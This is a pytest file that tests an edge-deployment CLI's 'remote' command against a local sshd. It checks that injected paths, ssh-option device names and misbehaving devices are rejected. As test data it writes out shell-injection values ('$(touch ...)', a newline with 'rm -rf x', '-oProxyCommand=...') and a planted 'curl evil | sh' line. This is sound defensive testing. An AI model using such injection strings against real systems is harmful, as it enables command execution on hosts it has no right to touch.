"""The bad-input matrix: `remote`, against a real OpenSSH server on 127.0.0.1 (tests/sshd_helpers.py). No path reaches
a shell that could expand it (even with scp's legacy protocol, the default before OpenSSH 9.0), no destination is read
as an ssh option, and what a device sends back is checked before it may replace a local folder: a manifest.json its
files match, nothing else kept, a size budget, a report.json that reads. A "device" that misbehaves is a script
standing in for edgedeploy in --venv."""

from __future__ import annotations

import atexit
import json
import os
import shutil
import stat
import sys
from pathlib import Path

import pytest

from bad_input.matrix import Run, matrix_test, registry
from sshd_helpers import SshServer

pytestmark = pytest.mark.slow  # each case runs the CLI on real builds

CASES: list = []
case = registry(CASES)
_SERVER: list[SshServer] = []


def server(bench) -> SshServer:
    """One sshd for this process's remote cases."""
    if not _SERVER:
        _SERVER.append(SshServer(bench.root / "sshd").start())
        atexit.register(_SERVER[0].stop)
    return _SERVER[0]


def unsigned_bundle(bench, here: Path) -> Path:
    shutil.copytree(bench.bundle, here / "b")
    (here / "b" / "bundle.json.sig").unlink()
    return here / "b"


def remote(bench, here: Path, *args: str, venv: str = sys.prefix, remote_dir: str | None = None) -> list[str]:
    return ["remote", "device", *args, "-F", str(server(bench).config), "--venv", venv,
            "--remote-dir", remote_dir or str(here / "device")]


PROGRESS = ("device ",)  # what `remote` says as it goes: the device, then the step


def legacy_scp(here: Path) -> dict[str, str]:
    """PATH with an `scp` that defaults to the legacy protocol, as OpenSSH before 9.0 does (Ubuntu 22.04)."""
    (here / "bin").mkdir()
    wrapper = here / "bin" / "scp"
    wrapper.write_text(f'#!/bin/sh\nexec {shutil.which("scp")} -O "$@"\n')
    wrapper.chmod(0o755)
    return {"PATH": f"{here / 'bin'}:{os.environ['PATH']}"}


def fake_device(here: Path, body: str) -> str:
    """A venv whose `edgedeploy` runs `body` (sh) with $out set to the --out folder it was given; its path."""
    exe = here / "fake" / "bin" / "edgedeploy"
    exe.parent.mkdir(parents=True)
    exe.write_text('#!/bin/sh\nwhile [ $# -gt 0 ]; do [ "$1" = --out ] && out=$2; shift; done\n'
                   f'mkdir -p "$out"\n{body}\n')
    exe.chmod(exe.stat().st_mode | stat.S_IXUSR)
    return str(here / "fake")


@case("--remote-dir with $(...) and a space, legacy scp protocol", 0)
def _(bench, here, out):
    injected = here / "INJECTED"
    remote_dir = f"{here}/dev dir$(touch {injected})"

    def seen(result) -> str:
        assert json.loads((out / "report.json").read_text())["passed"], result.stderr
        return f"built and fetched; remote dir {remote_dir.replace(str(here), '<case>')!r} used as a name"
    return Run(remote(bench, here, "build", str(unsigned_bundle(bench, here)), "--target", "onnxruntime", "--out",
                      str(out), remote_dir=remote_dir), env=legacy_scp(here), seen=seen,
               canaries={"injection": (injected,)})


@case("--remote-dir with a newline", 2, "holds a control character")
def _(bench, here, out):
    return Run(remote(bench, here, "build", str(unsigned_bundle(bench, here)), "--out", str(out),
                      remote_dir=f"{here}/dev\nrm -rf x"))


@case("device that is an ssh option (-oProxyCommand)", 2, "starts with '-', which ssh would read as an option")
def _(bench, here, out):
    return Run(["remote", "--out", str(out), "--", "-oProxyCommand=touch${IFS}PROXY-RAN", "build",
                str(unsigned_bundle(bench, here))], popen={"cwd": here}, canaries={"code_run": (here / "PROXY-RAN",)})


def fetch_case(bench, here, out, body: str, *flags: str) -> Run:
    return Run(remote(bench, here, "build", str(unsigned_bundle(bench, here)), "--out", str(out), *flags,
                      venv=fake_device(here, body)), progress=PROGRESS)


@case("fetched folder without manifest.json", 1, "has no manifest.json", existing=True)
def _(bench, here, out):
    report = bench.built / "report.json"
    return fetch_case(bench, here, out, f'cp {report} "$out/report.json"; echo junk > "$out/junk.bin"')


@case("fetched folder over the size budget", 1, "over the fetch budget of 1 MiB", "--max-fetch-mb", existing=True)
def _(bench, here, out):
    return fetch_case(bench, here, out, f'cp -r {bench.built}/. "$out"; head -c 3000000 /dev/zero > "$out/big.bin"',
                      "--max-fetch-mb", "1")


@case("fetched report.json not JSON", 2, "not a readable JSON report", existing=True)
def _(bench, here, out):
    return fetch_case(bench, here, out, f'cp -r {bench.built}/. "$out"; echo "{{not json" > "$out/report.json"')


@case("fetched report.json 200 000 levels deep", 2, "not a readable JSON report", existing=True)
def _(bench, here, out):
    (here / "deep.json").write_text('{"schema": "edgedeploy.report/1", "x": ' + "[" * 200_000 + "]" * 200_000 + "}")
    return fetch_case(bench, here, out, f'cp -r {bench.built}/. "$out"; cp {here / "deep.json"} "$out/report.json"')


@case("fetched folder with files outside its manifest", 0)
def _(bench, here, out):
    run = fetch_case(bench, here, out, f'cp -r {bench.built}/. "$out"; echo "curl evil | sh" > "$out/planted.sh"; '
                                       'mkdir "$out/extra"; echo x > "$out/extra/x"')

    def seen(result) -> str:
        assert (out / "manifest.json").is_file() and not (out / "planted.sh").exists() and not (out / "extra").exists()
        return "fetched; planted.sh and extra/ (not in manifest.json) dropped"
    run.seen = seen
    return run


@case("remote validate --junit when the device wrote none", 1, "the device wrote a report but no JUnit XML")
def _(bench, here, out):
    shutil.copytree(bench.built, here / "art")
    venv = fake_device(here, f'cp {bench.built / "report.json"} {bench.built / "report.md"} "$out/"')
    return Run(remote(bench, here, "validate", str(here / "art"), "--junit", str(here / "junit.xml"), "--out",
                      str(out), venv=venv), keep=(here / "junit.xml",), progress=PROGRESS)


test_bad_input_gives_one_clear_line_and_keeps_the_output = matrix_test(CASES)
